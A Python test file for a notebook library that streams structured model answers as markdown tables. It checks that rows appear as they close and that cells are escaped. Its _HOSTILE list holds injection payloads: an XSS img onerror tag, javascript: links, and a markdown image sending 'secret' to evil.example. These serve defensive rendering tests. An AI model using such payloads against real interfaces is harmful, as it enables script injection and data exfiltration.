"""Structured answers as tables: rows as they close, and cells that show what is in them and nothing else."""

from __future__ import annotations

import html
import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cometnb.protocol.events import Event
from cometnb.session.structured import schema_of
from cometnb.view.html import block_html
from cometnb.view.neutral import neutral_markdown
from cometnb.view.rows import ShownRows, as_markdown

_PEOPLE = "[name, born int]"
_DELTA = "response.output_text.delta"
_HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    "a | b | c",
    "ends with \\",
    "`code` **bold** _em_ ~~gone~~",
    r"\(\href{javascript:alert(1)}{x}\) $\url{x}$",
    "# no heading\n\n---\n\n- no list",
    "&lt;script&gt; &#60;b>",
    "```\nno fence",
]


def _delta(text: Any) -> Event:
    return Event(_DELTA, {"type": _DELTA, "delta": text})


def _text(shown: list[Event]) -> str:
    return "".join(str(event.raw["delta"]) for event in shown)


def _html(markdown: str) -> str:
    """As drawn, less what only keeps formulas from being found."""
    return re.sub(r"</?code>|\u200c", "", block_html(neutral_markdown(markdown)))


def _cells(markdown: str) -> list[str]:
    """The cells of a table's body as a reader sees them in the display."""
    drawn = _html(markdown)
    return [html.unescape(cell) for cell in re.findall(r"<td>(.*?)</td>", drawn, re.DOTALL)]


def test_a_row_is_shown_when_it_has_closed() -> None:
    """The first brings the head; what is open waits."""
    rows = ShownRows(schema_of(_PEOPLE))
    assert _text(rows.shown([_delta('{"rows": [{"name": "Ada", "bo')])) == ""
    shown = _text(rows.shown([_delta('rn": 1815}, {"name": "Gr')]))
    assert shown == "| name | born |\n| --- | --- |\n| Ada | 1815 |\n"
    assert _text(rows.shown([_delta('ace", "born": 1906}]}')])) == "| Grace | 1906 |\n"


def test_other_events_pass_as_they_are() -> None:
    """Only text is replaced; a delta that is no text adds nothing."""
    rows = ShownRows(schema_of(_PEOPLE))
    other = Event("response.created", {"type": "response.created"})
    first, second = rows.shown([other, _delta(5)])
    assert first is other
    assert second.raw["delta"] == ""


def test_what_has_no_rows_streams_as_a_block_of_json() -> None:
    """One fence, opened once."""
    rows = ShownRows(schema_of("name, born int"))
    assert _text(rows.shown([_delta('{"name":'), _delta(' "Ada"')])) == '```json\n{"name": "Ada"'


@given(st.lists(st.tuples(st.text(max_size=20), st.integers()), min_size=1, max_size=5), st.integers(1, 30))
def test_the_table_that_grew_is_the_one_that_stays(people: list[tuple[str, int]], step: int) -> None:
    """However the text was cut."""
    answer = json.dumps({"rows": [{"name": name, "born": born} for name, born in people]})
    schema = schema_of(_PEOPLE)
    rows = ShownRows(schema)
    pieces = [_delta(answer[at : at + step]) for at in range(0, len(answer), step)]
    assert _text(rows.shown(pieces)) == as_markdown(schema, answer)


def test_a_long_table_says_what_it_leaves_out() -> None:
    """The rest is in the frame; while it streams the table stops growing."""
    schema = schema_of(_PEOPLE)
    answer = json.dumps({"rows": [{"name": "n", "born": n} for n in range(1100)]})
    text = as_markdown(schema, answer)
    assert text.count("\n| n |") == 60
    assert text.endswith("\n1,040 more rows are in .to_frame().")
    assert _text(ShownRows(schema).shown([_delta(answer)])).count("\n| n |") == 60


def test_lists_of_values_are_a_table_of_one_column() -> None:
    """Named as in the frame."""
    assert as_markdown(schema_of(list[int]), '{"items": [1, 2]}').startswith("| value |\n| --- |\n| 1 |")


def test_a_column_is_there_though_the_first_row_lacks_it() -> None:
    """The head is what was asked for, and what the first row has besides."""
    answer = '{"rows": [{"born": 1, "more": 2}, {"name": "Ada", "born": 3}]}'
    lines = as_markdown(schema_of(_PEOPLE), answer).split("\n")
    assert lines[0] == "| name | born | more |"
    assert lines[2:4] == ["|  | 1 | 2 |", "| Ada | 3 |  |"]


@pytest.mark.parametrize(
    "text", ['{"rows": []}', '{"rows": [{"name": "Ada"', "I cannot.", "```\n<b>", "", "[" * 9999]
)
def test_what_gives_no_row_is_a_block(text: str) -> None:
    """No rows, no JSON, or none of it whole: shown as it came, in a fence that holds."""
    shown = as_markdown(schema_of(_PEOPLE), text)
    fence = shown[: shown.index("json")]
    assert set(fence) == {"`"}
    assert shown.endswith(f"\n{fence}")
    assert fence not in text


@pytest.mark.parametrize("words", _HOSTILE)
def test_a_cell_shows_its_text_and_nothing_else(words: str) -> None:
    """No markup, link, image or formula; it ends neither its cell nor its row."""
    answer = json.dumps({"rows": [{"name": words, "born": 1}, {"name": "Ada", "born": 2}]})
    assert _cells(as_markdown(schema_of(_PEOPLE), answer)) == [" ".join(words.split()), "1", "Ada", "2"]


@pytest.mark.parametrize("words", _HOSTILE)
def test_a_column_s_name_is_a_cell_like_others(words: str) -> None:
    """A model that does not hold to the schema names columns as it likes."""
    answer = json.dumps({"rows": [{words: "x", "born": 1}]})
    shown = as_markdown(schema_of(_PEOPLE), answer)
    drawn = _html(shown)
    assert [html.unescape(name) for name in re.findall(r"<th>(.*?)</th>", drawn)] == [
        *("name", "born"),
        " ".join(words.split()),
    ]
    assert _cells(shown) == ["", "1", "x"]


def test_cells_are_short_and_missing_is_empty() -> None:
    """Lists and objects are JSON; a long text ends in an ellipsis."""
    spec = "[name, tags list[str], note str?]"
    answer = json.dumps({"rows": [{"name": "x" * 500, "tags": ["a", "ö"], "note": None}]})
    assert _cells(as_markdown(schema_of(spec), answer)) == ["x" * 199 + "…", '["a", "ö"]', ""]
